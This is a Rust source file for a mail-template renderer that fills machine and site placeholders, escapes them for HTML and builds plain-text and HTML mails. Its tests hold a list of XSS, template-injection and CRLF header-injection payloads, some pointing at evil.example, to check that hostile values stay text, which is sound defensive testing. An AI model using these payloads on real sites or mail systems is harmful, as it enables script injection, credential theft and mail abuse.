//! PURE: the mail of a template for one machine: its placeholders filled, and its text in the layout of our mails.
//!
//! A value is text, never HTML, and never a further placeholder: it is escaped where it is in HTML, and a text is
//! filled in one pass. The HTML is cleaned after it was filled, so that nothing depends on where in a tag somebody has
//! put a placeholder.

use std::borrow::Cow;

use platform::{
    core::error::{Error, Result},
    entity::{site, user},
    jobs::mail_layout::{self, Block, MailContent},
};

use crate::{reasons, templates::body};

/// The longest line of the plain text; an address is never divided.
const WIDTH: usize = 76;
/// The largest text of a mail with its values, in bytes: a template at its largest, and as much again.
const LARGEST: usize = 180 * 1024;

/// The values of the placeholders, each by its name.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Values {
    pub vinno: String,
    pub machinemodel: String,
    pub sitename: String,
    pub siteemail: String,
    pub sitetelephoneno: String,
    pub sitewebsite: String,
    pub serviceadvisorfirstname: String,
    pub serviceadvisorsurname: String,
    pub serviceadvisoremail: String,
}

impl Values {
    /// The values of a machine at a site, written to by a user of the site or its group.
    pub(crate) fn of(site: site::Model, author: &user::Model, serial: String, model: String) -> Self {
        Self {
            vinno: serial,
            machinemodel: model,
            sitename: site.name,
            siteemail: site.email,
            sitetelephoneno: site.telephone,
            sitewebsite: site.website,
            serviceadvisorfirstname: author.first_name.clone(),
            serviceadvisorsurname: author.last_name.clone(),
            serviceadvisoremail: author.email.clone(),
        }
    }

    /// Every name with its value.
    pub(crate) fn list(&self) -> [(&'static str, &str); 9] {
        [
            ("vinno", &self.vinno),
            ("machinemodel", &self.machinemodel),
            ("sitename", &self.sitename),
            ("siteemail", &self.siteemail),
            ("sitetelephoneno", &self.sitetelephoneno),
            ("sitewebsite", &self.sitewebsite),
            ("serviceadvisorfirstname", &self.serviceadvisorfirstname),
            ("serviceadvisorsurname", &self.serviceadvisorsurname),
            ("serviceadvisoremail", &self.serviceadvisoremail),
        ]
    }

    /// Fills a subject: one line, without control characters.
    pub(crate) fn fill_line(&self, subject: &str) -> String {
        let filled = plain(&self.fill(subject, Cow::Borrowed));
        filled.split_whitespace().collect::<Vec<_>>().join(" ")
    }

    /// Fills the HTML of a template; every value is escaped.
    pub(crate) fn fill_html(&self, html: &str) -> String {
        self.fill(html, |value| Cow::Owned(escaped(&plain(value))))
    }

    /// Fills in one pass, so that a placeholder in a value stays text. An unknown one stays, too.
    fn fill<'a>(&'a self, text: &str, written: impl Fn(&'a str) -> Cow<'a, str>) -> String {
        let values = self.list();
        let mut filled = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(at) = rest.find("{{") {
            let (before, from) = rest.split_at(at);
            filled.push_str(before);
            let after = |name: &str| from[2..].strip_prefix(name)?.strip_prefix("}}");
            let found = values.iter().find_map(|(name, value)| after(name).map(|after| (*value, after)));
            if let Some((value, after)) = found {
                filled.push_str(&written(value));
                rest = after;
            } else {
                filled.push('{');
                rest = &from[1..];
            }
        }
        filled.push_str(rest);
        filled
    }
}

/// A value without control characters, and without those that turn the direction of the text around it.
fn plain(value: &str) -> String {
    let turns = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let breaks = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}');
    value.chars().filter(|c| !turns(*c)).map(|c| if breaks(c) { ' ' } else { c }).collect()
}

/// Escapes a value for HTML, for a text as for an attribute.
pub(crate) fn escaped(value: &str) -> String {
    let mut html = String::with_capacity(value.len());
    for c in value.chars() {
        match c {
            '&' => html.push_str("&amp;"),
            '<' => html.push_str("&lt;"),
            '>' => html.push_str("&gt;"),
            '"' => html.push_str("&quot;"),
            '\'' => html.push_str("&#39;"),
            c => html.push(c),
        }
    }
    html
}

/// Both parts of a mail.
#[derive(Debug)]
pub(crate) struct Rendered {
    pub html: String,
    pub text: String,
}

/// Puts a filled text into the layout of our mails. `language` is a code such as `de_DE`, `skin` that of the site. A
/// text that is too large with its values, or too deeply nested, is refused.
pub(crate) fn render(
    language: &str,
    site_name: &str,
    skin: Option<i64>,
    subject: &str,
    clean_body: &str,
) -> Result<Rendered> {
    if clean_body.len() > LARGEST {
        return Err(reasons::CONTENT_LONG.into());
    }
    if !body::is_bounded(clean_body) {
        return Err(reasons::CONTENT_NESTED.into());
    }
    let html = body::clean(clean_body);
    if !body::is_flat(&html) {
        return Err(reasons::CONTENT_NESTED.into());
    }
    let text = text_of(&html)?;
    let language = language.replace('_', "-");
    let content = MailContent {
        language: &language,
        title: subject,
        sender: site_name,
        skin,
        blocks: vec![Block::Html { html, text }],
    };
    Ok(Rendered { html: mail_layout::html(&content)?, text: mail_layout::text(&content) })
}

/// The plain text of cleaned HTML; the addresses of links are listed at its end.
fn text_of(html: &str) -> Result<String> {
    let text = html2text::config::plain_no_decorate()
        .link_footnotes(true)
        .no_link_wrapping()
        .unicode_strikeout(false)
        // The cells of a table one after the other: many mail programs show text in letters of different widths.
        .raw_mode(true)
        .allow_width_overflow()
        .string_from_read(html.as_bytes(), WIDTH)
        .map_err(Error::internal)?;
    let lines: Vec<&str> = text.lines().map(str::trim_end).collect();
    Ok(lines.join("\n").trim().to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values() -> Values {
        let mut values = Values::default();
        every(&mut values, |name| format!("[{name}]"));
        values
    }

    /// Sets every value by its name.
    fn every(values: &mut Values, value: impl Fn(&str) -> String) {
        values.vinno = value("vinno");
        values.machinemodel = value("machinemodel");
        values.sitename = value("sitename");
        values.siteemail = value("siteemail");
        values.sitetelephoneno = value("sitetelephoneno");
        values.sitewebsite = value("sitewebsite");
        values.serviceadvisorfirstname = value("serviceadvisorfirstname");
        values.serviceadvisorsurname = value("serviceadvisorsurname");
        values.serviceadvisoremail = value("serviceadvisoremail");
    }

    /// A text with every placeholder.
    fn all_placeholders() -> String {
        Values::default().list().map(|(name, _)| format!("{{{{{name}}}}} ")).concat()
    }

    fn rendered(values: &Values, template: &str) -> Rendered {
        let subject = values.fill_line("Your {{machinemodel}} {{vinno}}");
        render("en_GB", "Ashby & Sons", None, &subject, &values.fill_html(&body::clean(template))).expect("renders")
    }

    /// The tags of a page, with their attributes.
    fn tags(html: &str) -> Vec<&str> {
        html.split('<').skip(1).map(|part| part.split('>').next().unwrap_or_default()).collect()
    }

    /// 200 texts of every kind of attack: each trick, framed in each of the ways in which one leaves a text or an attribute.
    fn hostile() -> Vec<String> {
        let tricks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script href=data:text/javascript,alert(1) />",
            "<iframe src=javascript:alert(1)>",
            "<a href=javascript:alert(1)>x</a>",
            "<form action=https://evil.example><input name=password>",
            "<style>@import 'https://evil.example'</style>",
            "<link rel=stylesheet href=https://evil.example>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=https://evil.example>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "{{sitename}}{% include 'x' %}${7*7}",
            "\r\nBcc: thief@evil.example\r\n\r\n<b>x",
        ];
        let frames: [fn(&str) -> String; 10] = [
            str::to_owned,
            |trick| format!("\">{trick}"),
            |trick| format!("'>{trick}"),
            |trick| format!("</td></tr></table>{trick}"),
            |trick| format!("</title></style>{trick}"),
            |trick| format!("-->{trick}<!--"),
            |trick| format!("\u{202e}{trick}\u{0}"),
            |trick| format!("<![endif]-->{trick}"),
            |trick| trick.replace('<', "&lt;").replace('>', "&#62;"),
            |trick| trick.to_uppercase().replace(' ', "/"),
        ];
        tricks.iter().flat_map(|trick| frames.iter().map(|frame| frame(trick))).collect()
    }

    #[test]
    fn every_placeholder_is_filled_once() {
        let values = values();
        let expected = values.list().map(|(name, _)| format!("[{name}] ")).concat();
        assert_eq!(values.fill_html(&all_placeholders()), expected);
        assert_eq!(values.fill_line(&all_placeholders()), expected.trim());
        let mut values = Values { vinno: String::from("{{sitename}}"), ..values };
        assert_eq!(values.fill_line("{{vinno}}"), "{{sitename}}");
        values.vinno = String::from("J1");
        for (template, filled) in [
            ("{{{vinno}}}", "{J1}"),
            ("{{ vinno }} {{VINNO}} {{other}}", "{{ vinno }} {{VINNO}} {{other}}"),
            ("{{vinno", "{{vinno"),
            ("{{}}{{{{vinno}}}}", "{{}}{{J1}}"),
            ("ä{{ö{{vinno}}ü", "ä{{öJ1ü"),
        ] {
            assert_eq!(values.fill_line(template), filled, "{template}");
        }
    }

    #[test]
    fn a_subject_is_one_line() {
        let values = Values { vinno: String::from("J1\r\nBcc: a@b.example\u{2028}x"), ..Values::default() };
        assert_eq!(values.fill_line("Machine  {{vinno}} {{sitename}}"), "Machine J1 Bcc: a@b.example x");
    }

    /// Goal I7: a value adds no tag and no attribute, whatever it is and wherever it is placed.
    #[test]
    fn hostile_values_stay_text() {
        let hostile = hostile();
        assert_eq!(hostile.len(), 200);
        let template = format!("<p>{}</p><ul><li>{{{{vinno}}}}</li></ul>", all_placeholders());
        let plain = rendered(&values(), &template).html;
        for text in &hostile {
            let mut values = Values::default();
            every(&mut values, |_| text.clone());
            let subject = values.fill_line("Your {{machinemodel}}");
            assert!(!subject.contains(char::is_control) && !subject.contains('\u{202e}'), "{subject:?}");
            let mail = rendered(&values, &template);
            assert_eq!(tags(&mail.html), tags(&plain), "{text} made {}", mail.html);
            for name in Values::default().list().map(|(name, _)| name) {
                let mut values = super::tests::values();
                every(&mut values, |other| if other == name { text.clone() } else { String::from("x") });
                assert_eq!(
                    values.fill_html(&format!("<p>{{{{{name}}}}}</p>")).matches('<').count(),
                    2,
                    "{name}: {text}"
                );
            }
        }
    }

    /// Goal I7: in an attribute, too.
    #[test]
    fn hostile_values_stay_in_their_attribute() {
        let template = "<p><a href=\"https://example.org/?a={{vinno}}\">x</a><a href=\"mailto:{{siteemail}}\">y</a>\
                        <span style=\"color:{{sitename}}\">z</span></p>";
        let plain = rendered(&values(), template).html;
        let names = |html: &str| {
            tags(html).iter().map(|tag| tag.split(' ').next().unwrap_or_default().to_owned()).collect::<Vec<_>>()
        };
        for text in hostile() {
            let mut values = Values::default();
            every(&mut values, |_| text.clone());
            let html = rendered(&values, template).html;
            assert_eq!(names(&html), names(&plain), "{text} made {html}");
            let links: Vec<&str> = tags(&html).into_iter().filter(|tag| tag.starts_with("a ")).collect();
            assert!(
                links.iter().all(|tag| tag.matches('"').count() == 2 && tag.matches("=\"").count() == 1),
                "{links:?}"
            );
            assert!(
                links.iter().all(|tag| tag.contains("\"https://example.org/") || tag.contains("\"mailto:")),
                "{links:?}"
            );
        }
    }

    #[test]
    fn both_parts_have_the_same_text() {
        let template = "<h1>Delivered</h1><p>Dear <strong>customer</strong>,<br>your {{machinemodel}}</p><ul><li><p>one</p></li></ul>\
                        <blockquote><p>quoted</p></blockquote><p><a href=\"https://example.org/a\">our pages</a></p>";
        let mail = rendered(&values(), template);
        assert_eq!(
            mail.text,
            "# Delivered\n\nDear customer,\nyour [machinemodel]\n* one\n\n> quoted\n\n[our pages][1]\n\n[1]: https://example.org/a\n\nAshby & Sons\n"
        );
        assert!(mail.html.starts_with("<!DOCTYPE html>\n<html lang=\"en-GB\" dir=\"ltr\">"), "{}", mail.html);
        for part in [
            "<h1>Delivered</h1>",
            "<strong>customer</strong>",
            "Ashby &amp; Sons",
            "<title>Your [machinemodel] [vinno]",
        ] {
            assert!(mail.html.contains(part), "{part}: {}", mail.html);
        }
    }

    #[test]
    fn what_would_take_too_long_is_refused() {
        let reason = |body: &str| render("en", "s", None, "x", body).map(drop).expect_err("refused").reason();
        assert_eq!(reason(&"x".repeat(LARGEST + 1)), reasons::CONTENT_LONG);
        assert_eq!(reason(&"<p>x".repeat(5_001)), reasons::CONTENT_NESTED);
        assert_eq!(reason(&"<blockquote>x".repeat(2_000)), reasons::CONTENT_NESTED);
        assert!(render("en", "s", None, "x", &"<p>x</p>".repeat(2_500)).is_ok());
        assert!(render("en", "s", None, "", "").is_ok());
    }
}
